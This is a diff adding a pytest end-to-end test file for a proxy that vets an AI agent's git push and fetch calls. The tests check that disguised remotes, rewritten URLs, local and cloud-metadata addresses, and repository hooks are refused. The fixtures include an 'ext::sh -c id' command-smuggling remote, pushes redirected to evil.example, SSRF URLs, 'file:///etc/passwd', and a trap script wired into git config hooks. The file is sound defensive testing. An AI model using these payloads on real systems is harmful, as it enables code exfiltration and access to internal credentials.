@@ -1,0 +1,293 @@
+"""Where a URL or a git remote really leads decides."""
+
+import subprocess
+from collections.abc import Callable, Iterator
+from pathlib import Path
+
+import orjson
+import pytest
+
+from ironcurtain_proxy.model.json import Json
+from tests.e2e.house import House, Roles, rule, tool
+from tests.e2e.raw_client import Message, RawClient, at, text
+
+GIT_ROLES: Roles = {
+    "git_push": {
+        "path": ["read-path"],
+        "remote": ["git-remote-url"],
+        "branch": ["branch-name"],
+    },
+    "git_set_working_dir": {"path": ["read-path"]},
+}
+
+GIT_TOOLS: list[Message] = [
+    {
+        "name": "git_push",
+        "inputSchema": {
+            "type": "object",
+            "properties": {name: {"type": "string"} for name in ("path", "remote", "branch")},
+        },
+    },
+    tool("git_set_working_dir", path={"type": "string"}),
+]
+
+GOOD = "https://github.com/us/ours.git"
+EVIL = "https://evil.example/us/ours.git"
+
+Connected = tuple[House, RawClient]
+
+
+def git(repository: Path, *arguments: str) -> None:
+    subprocess.run(  # noqa: S603  argument list, no shell
+        ["git", "-C", str(repository), *arguments],  # noqa: S607  the system's git
+        check=True,
+        capture_output=True,
+    )
+
+
+def repository(house: House, name: str, remote: str | None = GOOD) -> Path:
+    """A repository in the workspace whose `origin` is the good one."""
+    directory = house.workspace / name
+    directory.mkdir(exist_ok=True)
+    git(directory, "init", "--quiet", "--initial-branch=main")
+    if remote is not None:
+        git(directory, "remote", "add", "origin", remote)
+    return directory
+
+
+@pytest.fixture
+def pushing(house: House) -> House:
+    """A git server that may talk to github.com, and a rule that lets it do everything."""
+    house.add_scripted(
+        "git",
+        GIT_ROLES,
+        tools=GIT_TOOLS,
+        annotations="git",
+        sandbox={"network": {"allowedDomains": ["github.com"]}},
+    )
+    house.rules.append(rule("git-may", server=["git"]))
+    return house
+
+
+def push_url(directory: Path) -> None:
+    git(directory, "config", "remote.origin.pushurl", EVIL)
+
+
+def second_url(directory: Path) -> None:
+    git(directory, "remote", "set-url", "--add", "origin", EVIL)
+
+
+def push_instead_of(directory: Path) -> None:
+    git(directory, "config", "url.https://evil.example/.pushInsteadOf", "https://github.com/")
+
+
+def instead_of(directory: Path) -> None:
+    git(directory, "config", "url.https://evil.example/.insteadOf", "https://github.com/")
+
+
+def included(directory: Path) -> None:
+    (directory / "more").write_text(f'[remote "origin"]\n\tpushurl = {EVIL}\n')
+    git(directory, "config", "include.path", "../more")
+
+
+def fetch_url(directory: Path) -> None:
+    git(directory, "remote", "set-url", "origin", EVIL)
+
+
+def push_default(directory: Path) -> None:
+    git(directory, "remote", "add", "evil", EVIL)
+    git(directory, "config", "remote.pushDefault", "evil")
+
+
+def branch_remote(directory: Path) -> None:
+    git(directory, "remote", "add", "evil", EVIL)
+    git(directory, "config", "branch.main.pushRemote", "evil")
+
+
+EVERYWHERE = (push_url, second_url, push_instead_of, instead_of, included, fetch_url)
+
+
+@pytest.mark.parametrize("twist", EVERYWHERE, ids=[twist.__name__ for twist in EVERYWHERE])
+@pytest.mark.parametrize("remote", ["origin", None], ids=["origin", "no remote named"])
+def test_a_push_goes_nowhere_that_the_name_hides(
+    twist: Callable[[Path], None], remote: str | None, pushing: House
+) -> None:
+    """G8, G9."""
+    directory = repository(pushing, "ours")
+    twist(directory)
+    given: Message = {"path": str(directory), "branch": "main"}
+    refused(pushing, {**given, **({} if remote is None else {"remote": remote})})
+
+
+@pytest.mark.parametrize("twist", [push_default, branch_remote])
+def test_a_push_without_a_remote_goes_where_git_would_send_it(
+    twist: Callable[[Path], None], pushing: House
+) -> None:
+    """G9."""
+    directory = repository(pushing, "ours")
+    twist(directory)
+    refused(pushing, {"path": str(directory), "branch": "main"})
+
+
+@pytest.mark.parametrize("twist", [push_instead_of, instead_of])
+def test_a_url_that_git_rewrites_is_judged_as_rewritten(
+    twist: Callable[[Path], None], pushing: House
+) -> None:
+    """G8."""
+    directory = repository(pushing, "ours")
+    twist(directory)
+    refused(pushing, {"path": str(directory), "remote": GOOD})
+
+
+@pytest.mark.parametrize(
+    "remote",
+    [
+        EVIL,
+        "git@evil.example:us/ours.git",
+        "ext::sh -c id",
+        "file:///tmp/x.git",
+        "/srv/x.git",
+        "..",
+    ],
+)
+def test_a_remote_elsewhere_is_not_pushed_to(remote: str, pushing: House) -> None:
+    directory = repository(pushing, "ours")
+    refused(pushing, {"path": str(directory), "remote": remote})
+
+
+def refused(house: House, given: Message) -> None:
+    """The push is not sent."""
+    agent = house.start()
+    result = agent.call("git_push", given)
+    assert result["isError"] is True
+    assert house.received("git") == []
+    assert house.last_decision()[0] in ("deny", "escalate")
+
+
+@pytest.mark.parametrize("remote", ["origin", None, GOOD, "git@github.com:us/ours.git"], ids=str)
+def test_a_push_to_the_allowed_host_is_sent_as_it_came(remote: str | None, pushing: House) -> None:
+    directory = repository(pushing, "ours")
+    agent = pushing.start()
+    given: Message = {"path": str(directory), "branch": "main"}
+    given |= {} if remote is None else {"remote": remote}
+    result = agent.call("git_push", given)
+    sent = at(orjson.loads(text(result)), "arguments")
+    assert isinstance(sent, dict)
+    assert sent.get("remote") == remote
+    assert sent["path"] == str(directory)
+
+
+def test_a_remote_that_changes_between_two_calls_is_looked_at_again(pushing: House) -> None:
+    """G8."""
+    directory = repository(pushing, "ours")
+    agent = pushing.start()
+    given: Message = {"path": str(directory), "remote": "origin"}
+    assert "isError" not in agent.call("git_push", given)
+    push_url(directory)
+    assert agent.call("git_push", given)["isError"] is True
+    assert len(pushing.received("git")) == 1
+
+
+def test_a_hook_or_alias_of_the_repository_does_not_run_when_it_is_looked_at(
+    pushing: House,
+) -> None:
+    """G8."""
+    directory = repository(pushing, "ours")
+    trap = pushing.root / "sprung"
+    script = pushing.root / "trap.sh"
+    script.write_text(f"#!/bin/sh\ntouch {trap}\n")
+    script.chmod(0o755)
+    for name in ("core.fsmonitor", "core.sshCommand", "core.pager", "credential.helper"):
+        git(directory, "config", name, str(script))
+    git(directory, "config", "alias.remote", f"!{script}")
+    git(directory, "config", "alias.config", f"!{script}")
+    agent = pushing.start()
+    agent.call("git_push", {"path": str(directory), "remote": "origin"})
+    assert not trap.exists()
+
+
+@pytest.fixture(scope="module")
+def fetching(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Connected]:
+    """A fetch server with two rules: named hosts, and `*`."""
+    house = House(tmp_path_factory.mktemp("fetching"))
+    roles: Roles = {"fetch": {"url": ["fetch-url"]}}
+    tools = [tool("fetch", url={"type": "string"})]
+    house.add_scripted("named", roles, tools=tools)
+    house.add_scripted("any", roles, tools=tools)
+    for server, allowed in (("named", ["example.com", "*.docs.example"]), ("any", ["*"])):
+        domains: Json = {"roles": ["fetch-url"], "allowed": [*allowed]}
+        house.rules.append(rule(f"{server}-hosts", server=[server], domains=domains))
+    yield house, house.start()
+    house.end()
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "https://example.com/a/",
+        "https://example.com/?q=a/",
+        "https://EXAMPLE.com:443/%7Ea/../b//#x",
+        "http://user@example.com/",
+        "https://deep.docs.example/",
+        "https://docs.example",
+    ],
+)
+def test_a_url_is_sent_as_it_came(url: str, fetching: Connected) -> None:
+    """G24."""
+    house, agent = fetching
+    sent = orjson.loads(text(agent.call("named__fetch", {"url": url})))
+    assert at(sent, "arguments", "url") == url
+    assert house.last_decision() == ("allow", "named-hosts")
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "https://evil.example/",
+        "https://example.com.evil.example/",
+        "https://example.com@evil.example/",
+        "https://evil.example\\@example.com/",
+        "https://evil.example/?https://example.com/",
+        "https:\\\\evil.example/https://example.com",
+        "//evil.example",
+        "example.com",
+        "file:///etc/passwd",
+        "javascript:alert(1)",
+        "",
+    ],
+)
+def test_a_url_that_leads_elsewhere_is_not_sent(url: str, fetching: Connected) -> None:
+    house, agent = fetching
+    before = len(house.received("named"))
+    assert agent.call("named__fetch", {"url": url})["isError"] is True
+    assert len(house.received("named")) == before
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "http://localhost/",
+        "http://LOCALHOST:8080/",
+        "http://127.0.0.1/",
+        "http://2130706433/",
+        "http://0x7f.1/",
+        "http://[::1]/",
+        "http://169.254.169.254/latest/meta-data/",
+        "http://metadata.google.internal/",
+        "file:///etc/passwd",
+        "no url at all",
+        "",
+    ],
+)
+def test_any_host_does_not_mean_this_machine_or_no_host(url: str, fetching: Connected) -> None:
+    """G11."""
+    house, agent = fetching
+    before = len(house.received("any"))
+    assert agent.call("any__fetch", {"url": url})["isError"] is True
+    assert len(house.received("any")) == before
+
+
+def test_any_host_means_any_other(fetching: Connected) -> None:
+    _, agent = fetching
+    result = agent.call("any__fetch", {"url": "https://whatever.example/"})
+    assert at(orjson.loads(text(result)), "arguments", "url") == "https://whatever.example/"
